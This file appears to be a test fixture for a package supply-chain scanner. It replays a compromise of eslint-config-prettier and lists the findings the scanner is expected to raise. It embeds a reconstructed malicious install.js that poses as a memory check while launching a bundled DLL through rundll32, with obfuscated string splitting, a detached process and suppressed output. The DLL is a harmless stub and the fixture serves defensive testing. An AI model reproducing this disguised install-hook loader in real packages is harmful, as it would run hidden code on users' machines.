import type { Replay, ReplayOfChange } from '../replay.js'
import { onVersion, type PackageFinding } from '../upgrade.js'

/** The first bytes of a Windows program, and nothing that could run. */
const library = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2046)])

const rules = `"use strict";

const includeDeprecated = !process.env.ESLINT_CONFIG_PRETTIER_NO_DEPRECATED;

module.exports = {
  rules: {
    // The following rules can be used in some cases.
    curly: 0,
    "no-unexpected-multiline": 0,
    "@typescript-eslint/quotes": 0,
    quotes: 0,
    // The rest are rules that you never need to enable when using Prettier.
    "array-bracket-newline": "off",
    "array-bracket-spacing": "off",
    "arrow-parens": "off",
    "comma-dangle": "off",
    ...(includeDeprecated && { "indent-legacy": "off", "no-spaced-func": "off" }),
  },
};
`

const install = `const path = require('path')
const { spawn } = require('child_process')

/** Tells how much memory there is, as if that were what this is for. */
function checkMemory() {
  console.log('Memory: ' + Math.round(require('os').freemem() / 1e6) + ' MB')
  if (process.platform !== 'win32') return
  const library = path.join(__dirname, 'node-gyp' + '.dll')
  spawn('run' + 'dll32', [library + ',main'], { detached: true, stdio: 'ignore' }).unref()
}

checkMemory()
`

const inInstall = {
  file: 'install.js',
  line: "spawn('run' + 'dll32', [library + ',main'], { detached: true, stdio: 'ignore' }).unref()",
} as const

const built = { repository: 'prettier/eslint-config-prettier', ref: 'refs/heads/main' }

const name = 'eslint-config-prettier'
const honest = { files: { 'index.js': rules } }
const attacked = {
  manifest: { scripts: { install: 'node install.js' } },
  files: { 'index.js': rules, 'install.js': install, 'node-gyp.dll': library },
}

/** A project has the newest line, and a preset of old rules that asks for an old one. */
const stateWith = (newest: string, old: string): ReplayOfChange['base'] => ({
  manifest: { dependencies: { [name]: `^${newest}`, 'preset-of-old': '^1.0.0' } },
  locked: {
    [name]: newest,
    'preset-of-old': { version: '1.0.0', dependencies: { [name]: '^8.0.0' } },
    [`node_modules/preset-of-old/node_modules/${name}`]: old,
  },
})

/** The same in both lines. */
const findings: readonly PackageFinding[] = [
  ['combined-risk', 'critical'],
  ['install-script-dangerous', 'critical', inInstall],
  ['capability-added', 'high', inInstall],
  ['install-script-added', 'high', { file: 'package.json' }],
  ['release-burst', 'high'],
  ['native-binary-added', 'medium', { file: 'node-gyp.dll' }],
  ['release-fresh', 'medium'],
]

export const replay: Replay = {
  description:
    'A phished maintainer token released packages of settings with an install script that loaded a Windows library lying beside it, ' +
    'named after a build tool. Four releases on three lines took minutes, and none had the provenance of the last honest one.',
  date: '2025-07-18',
  reviewedAt: '2025-07-19T08:00:00Z',
  packages: {
    [name]: {
      '8.10.0': { ...honest, published: '2023-08-03T12:00:00Z' },
      '9.1.0': { ...honest, published: '2023-12-02T12:00:00Z' },
      '10.1.5': { ...honest, published: '2025-05-09T12:00:00Z', provenance: built },
      '10.1.6': { ...attacked, published: '2025-07-18T15:00:00Z' },
      '8.10.1': { ...attacked, published: '2025-07-18T15:04:00Z' },
      '9.1.1': { ...attacked, published: '2025-07-18T15:08:00Z' },
      '10.1.7': { ...attacked, published: '2025-07-18T15:12:00Z' },
    },
    'preset-of-old': { '1.0.0': { manifest: { dependencies: { [name]: '^8.0.0' } } } },
  },
  base: stateWith('10.1.5', '8.10.0'),
  head: stateWith('10.1.6', '8.10.1'),
  expected: {
    verdict: 'flagged',
    findings: [
      ...findings.map((finding) => onVersion(name, '10.1.6', finding)),
      onVersion(name, '10.1.6', ['provenance-lost', 'high']),
      ...findings.map((finding) => onVersion(name, '8.10.1', finding)),
      onVersion(name, '8.10.1', ['version-out-of-order', 'medium']),
    ],
  },
}
